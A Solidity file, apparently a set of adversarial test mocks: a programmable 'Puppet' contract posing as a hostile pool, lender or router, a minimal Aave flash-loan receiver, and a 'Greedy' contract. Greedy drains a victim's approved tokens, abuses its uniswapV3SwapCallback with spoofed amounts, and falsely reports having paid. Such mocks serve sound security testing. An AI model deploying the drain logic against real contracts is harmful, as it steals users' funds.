// SPDX-License-Identifier: MIT
pragma solidity 0.8.27;

/// Does whatever it was taught when a function of that selector is called: a hostile pool, lender, pair, router or caller.
contract Puppet {
    struct Step {
        address target;
        bytes call;
    }

    mapping(bytes4 => Step[]) private steps;
    mapping(bytes4 => bytes) private answers;
    mapping(bytes4 => bool) private busy;

    /// When called by `selector`, call `target` so; after what it was taught before. A revert there is its own.
    function teach(bytes4 selector, address target, bytes calldata call) external {
        steps[selector].push(Step(target, call));
    }

    /// What it answers to `selector`; else one word, true.
    function answer(bytes4 selector, bytes calldata output) external {
        answers[selector] = output;
    }

    fallback(bytes calldata) external returns (bytes memory) {
        if (!busy[msg.sig]) {
            busy[msg.sig] = true;
            Step[] storage todo = steps[msg.sig];
            for (uint256 i = 0; i < todo.length; i++) {
                (bool done, bytes memory output) = todo[i].target.call(todo[i].call);
                if (!done) {
                    assembly {
                        revert(add(output, 32), mload(output))
                    }
                }
            }
            busy[msg.sig] = false;
        }
        bytes memory taught = answers[msg.sig];
        return taught.length > 0 ? taught : abi.encode(true);
    }
}

/// The least that Aave's flash loan may be taken with: it approves what is asked back, and nothing else.
contract Receiver {
    address private immutable POOL;

    constructor(address pool) {
        POOL = pool;
    }

    function executeOperation(address asset, uint256 amount, uint256 premium, address, bytes calldata)
        external
        returns (bool)
    {
        (bool done, ) = asset.call(abi.encodeWithSignature("approve(address,uint256)", POOL, amount + premium));
        return done;
    }
}

/// Takes whatever it can get of some tokens, however it is called, and says that it has paid plenty.
contract Greedy {
    address private victim;
    address[] private tokens;

    constructor(address victim_, address[] memory tokens_) {
        (victim, tokens) = (victim_, tokens_);
    }

    fallback(bytes calldata) external returns (bytes memory) {
        for (uint256 i = 0; i < tokens.length; i++) {
            uint256 held = _ask(tokens[i], abi.encodeWithSignature("balanceOf(address)", victim));
            uint256 allowed = _ask(tokens[i], abi.encodeWithSignature("allowance(address,address)", victim, this));
            uint256 taken = allowed < held ? allowed : held;
            _try(tokens[i], abi.encodeWithSignature("transferFrom(address,address,uint256)", victim, this, taken));
        }
        for (uint256 part = 1 << 70; part > 1 << 20; part /= 2) {
            _try(victim, abi.encodeWithSignature("uniswapV3SwapCallback(int256,int256,bytes)", part, -1, ""));
        }
        return abi.encode(-1e30, -1e30, 0);
    }

    function _ask(address token, bytes memory question) private view returns (uint256) {
        (, bytes memory output) = token.staticcall(question);
        return abi.decode(output, (uint256));
    }

    function _try(address target, bytes memory call) private {
        (bool done, ) = target.call(call);
        done;
    }
}
